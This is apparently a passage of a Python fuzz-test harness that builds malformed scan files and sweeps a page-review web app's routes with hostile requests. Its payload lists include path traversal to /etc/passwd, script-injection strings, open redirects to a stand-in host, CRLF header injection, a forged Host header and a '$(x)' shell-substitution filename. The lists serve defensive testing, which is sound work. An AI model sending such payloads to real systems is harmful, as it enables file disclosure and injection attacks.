    put("huge-header.tif", tiff_huge_header(good_tiff))
    put("1x1.png", png(np.zeros((1, 1), np.uint8)))
    put("3x70000.png", png(np.full((70_000, 3), 255, np.uint8)))
    put("70000x3.png", png(np.full((3, 70_000), 255, np.uint8)))
    put("200x1600.png", png(np.full((1600, 200), 255, np.uint8)))
    rgba = np.zeros((1000, 700, 4), np.uint8)
    put("transparent.png", png(rgba))
    form_rgba = np.dstack([page, page, page, np.where(page < 128, 255, 0).astype(np.uint8)])
    put("form-on-transparent.png", png(form_rgba))
    put("cmyk.jpg", pil_bytes(Image.fromarray(page[::2, ::2]).convert("CMYK"), "JPEG"))
    put("cmyk.tif", pil_bytes(Image.fromarray(page[1::2, ::2]).convert("CMYK"), "TIFF"))
    put("16bit.png", png((np.ascontiguousarray(page[::2, 1::2]).astype(np.uint16) * 257)))
    put("16bit.tif", pil_bytes(Image.fromarray(np.ascontiguousarray(page[1::2, 1::2]).astype(np.uint16) * 257),
                               "TIFF"))
    frames = [Image.fromarray(noise.integers(0, 256, (300, 200), dtype=np.uint8)) for _ in range(3)]
    put("animated.gif", pil_bytes(frames[0], "GIF", save_all=True, append_images=frames[1:]))
    put("animated.png", pil_bytes(frames[0], "PNG", save_all=True, append_images=frames[1:]), pages=1)
    put("scan.webp", pil_bytes(Image.fromarray(page[::3, ::3]), "WEBP"))
    put("scan.bmp", pil_bytes(Image.fromarray(page[::3, 1::3]), "BMP"))
    put("black.png", png(np.zeros((1754, 1240), np.uint8)))
    put("white.png", png(np.full((1754, 1241), 255, np.uint8)))
    put("noise.png", png(noise.integers(0, 256, (1754, 1240), dtype=np.uint8)))
    put("multi-bad-second.tif", good_tiff + b"\0" * 64, pages=1)
    put("palette.png", pil_bytes(Image.fromarray(page[::2, ::2]).convert("P"), "PNG"))
    put("1bit.png", pil_bytes(Image.fromarray(page[1::2, ::2]).convert("1"), "PNG"))
    put("72dpi.png", png(np.ascontiguousarray(page[::3, ::3])))
    put("exif-orientation-8.jpg", _exif_rotated(page[::2, ::2]))
    put("gzip-named.pdf", zlib.compress(good_pdf))
    put(b"latin1-\xe9t\xe9.jpg", pil_bytes(Image.fromarray(np.ascontiguousarray(page[2:, :])), "JPEG"),
        note="non-UTF-8 name b'latin1-\\xe9t\\xe9.jpg'")
    put(b"\xff\xfe-bad.png", png(np.ascontiguousarray(page[3:, :])), note="non-UTF-8 name b'\\xff\\xfe-bad.png'")
    put("back\\slash.png", png(np.ascontiguousarray(page[4:, :])))
    put("new\nline.png", png(np.ascontiguousarray(page[5:, :])), note="name with a newline")
    put("\u202egpj.png", png(np.ascontiguousarray(page[6:, :])), note="name with RTL override")
    put("L" * 240 + ".png", png(np.ascontiguousarray(page[7:, :])), note="240-char name")
    put("quotes ' \" ; $(x).png", png(np.ascontiguousarray(page[8:, :])))
    del h, w
    return files


def _exif_rotated(page: np.ndarray) -> bytes:
    image = Image.fromarray(np.ascontiguousarray(page))
    exif = image.getexif()
    exif[0x0112] = 8
    return pil_bytes(image, "JPEG", exif=exif.tobytes())


def special_scan_files(folder: Path, page: np.ndarray, outside: Path) -> list[ScanFile]:
    """Links, a FIFO, folders named like images, an unreadable file."""
    files = []
    target = outside / "target.png"
    target.write_bytes(png(np.ascontiguousarray(page[9:, :])))
    (folder / "link-to-file.png").symlink_to(target)
    files.append(ScanFile(b"link-to-file.png", note="symlink to a file outside"))
    (folder / "dangling-link.jpg").symlink_to(outside / "gone.jpg")
    files.append(ScanFile(b"dangling-link.jpg", note="dangling symlink"))
    (folder / "loop-link.jpg").symlink_to(folder / "loop-link.jpg")
    files.append(ScanFile(b"loop-link.jpg", note="symlink to itself"))
    (folder / "link-to-dir.png").symlink_to(outside)
    files.append(ScanFile(b"link-to-dir.png", note="symlink to a folder", needs_row=False))
    (folder / "link-to-null.png").symlink_to("/dev/null")
    files.append(ScanFile(b"link-to-null.png", note="symlink to /dev/null"))
    os.mkfifo(folder / "fifo.jpg")
    files.append(ScanFile(b"fifo.jpg", note="FIFO"))
    (folder / "folder.jpg").mkdir()
    (folder / "folder.jpg" / "inside.png").write_bytes(png(np.ascontiguousarray(page[10:, :])))
    files.append(ScanFile(b"folder.jpg", note="a folder named .jpg", needs_row=False))
    files.append(ScanFile(b"inside.png", note="a page inside the folder named .jpg"))
    locked = folder / "locked.png"
    locked.write_bytes(png(np.ascontiguousarray(page[11:, :])))
    locked.chmod(0)
    files.append(ScanFile(b"locked.png", note="mode 000 (root reads it anyway)"))
    (folder / "Thumbs.db").write_bytes(b"\0" * 100)
    (folder / ".hidden.png").write_bytes(b"x")
    for file in files:
        file.group = "special"
    return files


def real_scan_files(folder: Path, pages: list[np.ndarray], rng: random.Random) -> list[ScanFile]:
    """24 real printed pages in many formats and shapes (``pages``: renderings at 200 dpi)."""
    files: list[ScanFile] = []
    def pick(n: int) -> np.ndarray:
        """Page ``n``, with a small dot of its own in the top margin: no two files share pixels."""
        image = pages[n % len(pages)].copy()
        image[4:8, 40 + 6 * n:44 + 6 * n] = 0
        return image

    def put(name: str, data: bytes, count: int = 1) -> None:
        (folder / name).write_bytes(data)
        files.append(ScanFile(name.encode(), count, name, "real"))

    def rgb(a):
        return Image.fromarray(a).convert("RGB")

    put("real-01-grey.png", png(pick(0)))
    put("real-02-rgb.png", pil_bytes(rgb(pick(1)), "PNG"))
    put("real-03-rgba.png", png(np.dstack([pick(2)] * 3 + [np.full(pages[0].shape, 255, np.uint8)])))
    put("real-04-16bit.png", png(pick(3).astype(np.uint16) * 257))
    put("real-05-q90.jpg", pil_bytes(Image.fromarray(pick(4)), "JPEG", quality=90))
    put("real-06-q30.jpg", pil_bytes(Image.fromarray(pick(5)), "JPEG", quality=30))
    put("real-07-cmyk.jpg", pil_bytes(Image.fromarray(pick(6)).convert("CMYK"), "JPEG", quality=90))
    put("real-08-progressive.JPG", pil_bytes(rgb(pick(7)), "JPEG", quality=85, progressive=True))
    put("real-09-exif-rotated.jpg", _exif_rotated(np.ascontiguousarray(np.rot90(pick(8), 1))))
    put("real-10-plain.tif", pil_bytes(Image.fromarray(pick(9)), "TIFF", dpi=(200, 200)))
    put("real-11-lzw.tiff", pil_bytes(Image.fromarray(pick(10)), "TIFF", compression="tiff_lzw", dpi=(200, 200)))
    put("real-12-g4.tif", pil_bytes(Image.fromarray(pick(11)).convert("1"), "TIFF", compression="group4",
                                    dpi=(200, 200)))
    put("real-13-two-pages.tif", pil_bytes(Image.fromarray(pick(12)), "TIFF", save_all=True, dpi=(200, 200),
                                           append_images=[Image.fromarray(pick(13))]), 2)
    put("real-14-cmyk.tif", pil_bytes(Image.fromarray(pick(14)).convert("CMYK"), "TIFF", dpi=(200, 200)))
    put("real-15-image.pdf", pil_bytes(Image.fromarray(pick(15)), "PDF", resolution=200))
    put("real-16-two-pages.pdf", pil_bytes(rgb(pick(16)), "PDF", resolution=200, save_all=True,
                                           append_images=[rgb(pick(17))]), 2)
    put("real-17-upside-down.png", png(np.ascontiguousarray(pick(18)[::-1, ::-1])))
    put("real-18-turned-90.png", png(np.ascontiguousarray(np.rot90(pick(19)))))
    put("real-19-150dpi.png", png(np.ascontiguousarray(pick(20)[::4, ::4].repeat(3, 0).repeat(3, 1)[::4, ::4])))
    import cv2
    small = cv2.resize(pick(21), None, fx=0.75, fy=0.75, interpolation=cv2.INTER_AREA)
    put("real-20-150dpi-resized.png", png(small))
    big = cv2.resize(pick(22), None, fx=1.5, fy=1.5, interpolation=cv2.INTER_CUBIC)
    put("real-21-300dpi.jpg", pil_bytes(Image.fromarray(big), "JPEG", quality=85))
    centre = (pages[0].shape[1] / 2, pages[0].shape[0] / 2)
    skew = cv2.warpAffine(pick(23), cv2.getRotationMatrix2D(centre, 1.5, 1.0), pages[0].shape[::-1],
                          borderValue=255)
    put("real-22-skewed.png", png(skew))
    put("real-23-png-named.jpg", png(pick(24)))
    put("real-24-scan.webp", pil_bytes(Image.fromarray(pick(25)), "WEBP", quality=90))
    return files


# ----------------------------------------------------------------------------- requests

@dataclass
class Request:
    method: str
    path: str
    data: dict | bytes | None = None
    token: str = "good"  # "good", "none", "bad": the csrf field of a form
    client: str = "keyed"  # "keyed" (came with the key) or "stranger"
    headers: dict = field(default_factory=dict)
    content_type: str | None = None

    def describe(self) -> str:
        body = "" if self.data is None else f" {str(self.data)[:60]!s}"
        return f"{self.method} {self.path[:100]}{body} (token {self.token}, {self.client})"


IDS = ["0", "-1", "1", "2", "3", "9223372036854775807", "9223372036854775808", "18446744073709551621",
       "1" + "0" * 30, "abc", "..", "..%2f..%2fetc%2fpasswd", "%00", "1%00", "x" * 5000, "١٢", "1.5", "+1", "%201",
       "0x10", "1e3", "\u202e1", "😀", "-0"]
BOXES = ["q-0-1", "q-0-2", "q-1-1", "x", "../../etc/passwd", "..%2f..%2f", "q-" + "9" * 40 + "-1", "q--1-1",
         "q-0-" + "9" * 30, "b" * 3000, "%00", "😀", "<script>"]
STATES = ["marked", "empty", "filled", "", "MARKED", "x" * 500, "<b>", "\x00", "null"]
TEXTS = ["Samia", "", " ", "<script>alert(1)</script>", "x" * 70_000, "\u202eevil", "\x00\x07", "😀" * 300,
         "=HYPERLINK(\"x\")", "0007 Camille", "../../", "%s%s%s"]
NEXTS = ["/", "//fuite.example/", "/\\fuite.example", "https://fuite.example", "javascript:alert(1)", "/page/1",
         "\\\\fuite", "/%0d%0aSet-Cookie:x=1", ""]
METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"]
FONTS = ["AtkinsonHyperlegible-Regular.ttf", "AtkinsonHyperlegible-Bold.ttf", "../../../etc/passwd", "%2e%2e%2fx",
         "x" * 3000, "", "DejaVuSans.ttf"]


def fixed_requests(page_ids: list[int], decision_ids: list[int]) -> list[Request]:
    """Every route with each hostile id, box, body and method once."""
    ids = IDS + [str(i) for i in page_ids[:6]]
    decisions = IDS[:12] + [str(i) for i in decision_ids[:3]]
    out = [Request("GET", "/", client="stranger"), Request("GET", "/?cle=mauvaise", client="stranger"),
           Request("GET", "/?cle=" + "k" * 10_000, client="stranger"), Request("GET", "/page/1", client="stranger"),
           Request("POST", "/case", {"page": "1", "box": "q-0-1", "state": "marked"}, client="stranger"),
           Request("GET", "/"), Request("GET", "/?cle=mauvaise"), Request("GET", "/static/review.css"),
           Request("GET", "/static/../../../../etc/passwd"), Request("GET", "/static/" + "s" * 3000),
           Request("GET", "/" + "a" * 10_000), Request("GET", "/page/"), Request("GET", "/page//1"),
           Request("GET", "/%ff%fe"), Request("GET", "/page/1?" + "q=1&" * 3000)]
    for page in ids:
        out += [Request("GET", f"/page/{page}"), Request("GET", f"/scan/{page}.jpg")]
        for action in ("accepter", "refuser", "attribuer", "garder", "identifier"):
            out.append(Request("POST", f"/page/{page}/{action}", {}))
        out.append(Request("POST", "/case", {"page": page, "box": "q-0-1", "state": "marked"}))
    for decision in decisions:
        out.append(Request("POST", f"/defaire/{decision}", {}))
    for page in ids[:8] + ids[-3:]:
        for box in BOXES:
            out.append(Request("GET", f"/case/{page}/{box}.jpg"))
    for box in BOXES:
        for state in STATES:
            out.append(Request("POST", "/case", {"page": str(page_ids[0] if page_ids else 1), "box": box, "state": state}))
    for name in FONTS:
        out.append(Request("GET", f"/police/{name}"))
    for text in TEXTS:
        out.append(Request("POST", "/nom", {"name": text}))
        for page in [str(i) for i in page_ids[:3]] or ["1"]:
            out += [Request("POST", f"/page/{page}/refuser", {"reason": text, "other": text}),
                    Request("POST", f"/page/{page}/attribuer", {"member": text}),
                    Request("POST", f"/page/{page}/identifier", {"identifier": text, "printed": text})]
    for target in NEXTS:
        out.append(Request("POST", "/nom", {"name": "Samia", "next": target}))
    out.append(Request("POST", "/nom/oublier", {}))
    for token in ("none", "bad"):
        for page in [str(i) for i in page_ids[:3]] or ["1"]:
            out += [Request("POST", f"/page/{page}/accepter", {}, token=token),
                    Request("POST", "/case", {"page": page, "box": "q-0-1", "state": "marked"}, token=token),
                    Request("POST", f"/page/{page}/refuser", {"reason": "x"}, token=token)]
    routes = ["/", "/page/1", "/nom", "/case", "/page/1/accepter", "/defaire/1", "/case/1/q-0-1.jpg", "/scan/1.jpg",
              "/police/AtkinsonHyperlegible-Regular.ttf"]
    for route in routes:
        for method in METHODS:
            out.append(Request(method, route, {} if method in ("POST", "PUT", "PATCH") else None))
    out += [Request("POST", "/nom", b"\0" * 200_000, content_type="application/x-www-form-urlencoded"),
            Request("POST", "/nom", b"name=" + b"x" * 70_000, content_type="application/x-www-form-urlencoded"),
            Request("POST", "/case", b'{"page": 1}', content_type="application/json"),
            Request("POST", "/case", b"--x\r\nContent-Disposition: form-data; name=\"page\"\r\n\r\n1\r\n",
                    content_type="multipart/form-data; boundary=x"),
            Request("POST", "/case", b"--x\r\n" * 5000, content_type="multipart/form-data; boundary=x"),
            Request("POST", "/case", b"page=%ff%fe&box=%00&state=%c0%af", content_type="application/x-www-form-urlencoded"),
            Request("POST", "/case", b"page=1&page=2&box=q-0-1&box=x&state=marked",
                    content_type="application/x-www-form-urlencoded"),
            Request("POST", "/nom", b"name=a", content_type="text/plain; charset=utf-7"),
            Request("GET", "/", headers={"Cookie": "cagettes_review=" + "x" * 5000}),
            Request("GET", "/", headers={"Host": "fuite.example"}),
            Request("GET", "/", headers={"Accept-Language": "ar" * 2000}),
            Request("GET", "/", headers={"Range": "bytes=0-1,2-3,4-5"}),
            Request("GET", "/scan/1.jpg", headers={"Range": "bytes=999999999-"}),
            Request("GET", "/police/AtkinsonHyperlegible-Regular.ttf", headers={"Range": "bytes=-1,-2,-3"})]
    return out


def random_request(rng: random.Random, page_ids: list[int]) -> Request:
    """A random route, id, body and method."""
    page = rng.choice(IDS + [str(i) for i in page_ids] * 3)
    choice = rng.randrange(9)
    method = rng.choice(["GET"] * 3 + ["POST"] * 5 + METHODS)
    body = {k: rng.choice(TEXTS + STATES + BOXES + IDS) for k in rng.sample(
        ["page", "box", "state", "name", "reason", "other", "member", "identifier", "printed", "next", "csrf"],
        rng.randrange(0, 5))}
    paths = [f"/page/{page}", f"/scan/{page}.jpg", f"/case/{page}/{rng.choice(BOXES)}.jpg", "/case", "/nom",
             f"/page/{page}/{rng.choice(['accepter', 'refuser', 'attribuer', 'garder', 'identifier'])}",
             f"/defaire/{page}", "/", f"/police/{rng.choice(FONTS)}"]
    token = rng.choice(["good"] * 4 + ["none", "bad"])
    return Request(method, paths[choice], body if method != "GET" else None, token=token)
